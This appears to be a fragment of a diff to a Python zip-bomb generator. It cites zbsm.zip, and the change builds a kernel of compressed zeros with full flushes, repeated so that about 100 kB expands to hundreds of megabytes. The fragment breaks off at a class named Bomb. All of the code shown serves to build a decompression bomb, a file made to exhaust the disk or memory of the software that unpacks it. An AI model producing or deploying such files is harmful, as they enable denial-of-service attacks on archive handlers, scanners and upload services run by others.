@@ -1,4 +1,4 @@
-# One kernel of compressed zeros serves every entry, as in zbsm.zip: 2 MB unpack to gigabytes.
+# One kernel of compressed zeros serves every entry, as in zbsm.zip: 100 kB unpack to 400 MB.
 import io
 import shutil
 import sys
@@ -6,8 +6,10 @@ import zipfile
 import zlib
 
 packer = zlib.compressobj(9, zlib.DEFLATED, -15)
-kernel = b"".join(packer.compress(bytes(1 << 20)) for _ in range(400)) + packer.flush()
-size = 400 << 20
+# What stands between two full flushes refers to nothing before it, and may be repeated.
+megabyte = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
+kernel = megabyte * 100 + packer.flush()
+size = 100 << 20
 
 
 class Bomb(io.RawIOBase):
